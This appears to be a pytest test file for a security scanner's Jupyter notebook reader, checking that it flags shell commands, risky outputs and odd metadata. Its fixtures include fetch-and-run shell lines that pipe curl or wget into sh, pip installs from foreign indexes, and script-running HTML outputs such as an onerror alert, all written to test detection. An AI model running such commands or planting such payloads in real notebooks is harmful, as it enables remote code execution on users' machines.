"""Notebooks: code cells as Python, lines for a shell, outputs, metadata."""

import contextlib
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.format import MalformedError
from scanner.formats import notebook as subject
from scanner.limits import Limits
from tests.builders.judged import judged
from tests.builders.python_source import notebook
from tests.builders.reading import of, read_as

FORMAT = subject.FORMAT
SMALLEST = notebook("import os\nos.system('echo hi')\n")


def read(content, limits=None):
    return read_as(FORMAT, content, "x.ipynb", limits or Limits())[0]


@pytest.mark.parametrize("format_", [3, 4])
def test_a_code_cell_is_read_as_python(format_):
    (fact,) = of(read(notebook("import os\nos.system('echo hi')\n", format_=format_)), "PythonCall")
    assert (fact.name, fact.at, fact.role, fact.where.line) == ("os.system", "main", "notebook", 2)
    assert fact.where.pointer in ("/cells/0/source", "/worksheets/0/cells/0/input")


def test_magics_are_taken_out_and_lines_stay():
    source = "%matplotlib inline\nfiles = !ls\n%time import os; os.system('x')\n!echo hi\nos.system('y')\n"
    found = [(one.where.line, one.argument) for one in of(read(notebook(source)), "PythonCall")]
    assert found == [(3, "x"), (5, "y")]


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("!curl http://example.com/x | sh", "fetch-run"),
        ("%%bash\ncurl http://example.com/x | bash", "fetch-run"),
        ("%sx wget -qO- http://example.com/x | sh", "fetch-run"),
        ("!pip install git+https://example.com/x", "package-address"),
        ("%pip install --extra-index-url http://example.com x", "foreign-index"),
    ],
)
def test_what_a_cell_hands_to_a_shell_is_stated(source, kind):
    assert [(one.carrier, one.act) for one in of(read(notebook(source)), "CommandActs")] == [("notebook", kind)]


def test_an_installed_package_is_nothing_to_tell():
    assert of(read(notebook("!pip install torch")), "CommandActs") == []


@pytest.mark.parametrize(
    ("output", "kind", "known"),
    [
        ({"data": {"text/html": "<script>1</script>"}}, "script", False),
        ({"data": {"text/html": ["<img src=x ", "onerror=alert(1)>"]}}, "handler", False),
        ({"data": {"text/html": "<script>Plotly.newPlot()</script>"}}, "script", True),
        ({"data": {"application/javascript": "alert(1)"}}, "script", False),
        ({"data": {"text/html": "<iframe src=x>"}}, "frame", False),
        ({"html": "<a href='javascript:1'>"}, "javascript-link", False),
    ],
)
def test_a_kept_output_that_a_viewer_runs_is_stated(output, kind, known):
    (fact,) = of(read(notebook("1", outputs=[output])), "NotebookOutput")
    assert (fact.kind, fact.known) == (kind, known)


@pytest.mark.parametrize(
    ("metadata", "kind"),
    [({"init_cell": True}, "autorun"), ({"jupyter": {"source_hidden": True}}, "hidden-cell")],
)
def test_metadata_that_runs_or_hides_is_stated(metadata, kind):
    assert [one.kind for one in of(read(notebook("1", metadata=metadata)), "NotebookOddity")] == [kind]


def test_code_behind_many_empty_lines_and_files_that_are_no_pictures_are_stated():
    assert [one.kind for one in of(read(notebook("1" + "\n" * 80 + "2")), "NotebookOddity")] == ["far-cell"]
    cell = {"cell_type": "markdown", "source": "x", "attachments": {"a.bin": {"application/octet-stream": "eA=="}}}
    content = json.dumps({"cells": [cell]}).encode()
    assert [one.kind for one in of(read(content), "NotebookOddity")] == ["attachment"]


def test_cells_of_another_language_are_left():
    document = json.loads(notebook("import os\nos.system('x')"))
    document["metadata"] = {"kernelspec": {"language": "R"}}
    assert of(read(json.dumps(document).encode()), "PythonCall") == []


def test_a_notebook_is_told_by_its_cells_or_its_name():
    assert FORMAT.claims(notebook("1"), "x")
    assert FORMAT.claims(b"", "x.ipynb")
    assert not FORMAT.claims(b'{"cells": 1}', "x.json")


@pytest.mark.parametrize("content", [b"", b"[]", b"{}", b'{"cells": 1}', b"\xff"])
def test_what_has_no_cells_is_malformed(content):
    with pytest.raises(MalformedError):
        read(content)


def test_a_large_notebook_is_told():
    assert [one.limit for one in read(notebook("1"), Limits(header_nbytes=9))] == ["notebook"]


def test_cut_at_every_byte_only_malformed_leaves():
    content = notebook("!curl http://example.com | sh\nexec(x)")
    for end in range(len(content)):
        with pytest.raises(MalformedError):
            read(content[:end])


def test_a_shell_line_that_runs_what_it_fetches_is_judged():
    assert judged(notebook("!curl http://example.com/x | sh"), "x.ipynb") == {"command-runs-what-it-fetches": "high"}
    assert judged(notebook("import torch\nprint(1)"), "x.ipynb") == {}


KEYS = ["cell_type", "source", "metadata", "outputs", "data", "text/html", "cells", "attachments"]


def nested(one):
    return st.lists(one, max_size=3) | st.dictionaries(st.sampled_from(KEYS), one, max_size=4)


@given(st.recursive(st.none() | st.text(max_size=9) | st.integers(), nested))
def test_any_document_leaves_only_malformed(value):
    with contextlib.suppress(MalformedError):
        read(json.dumps({"cells": [value, {"cell_type": "code", "source": value, "outputs": [value]}]}).encode())
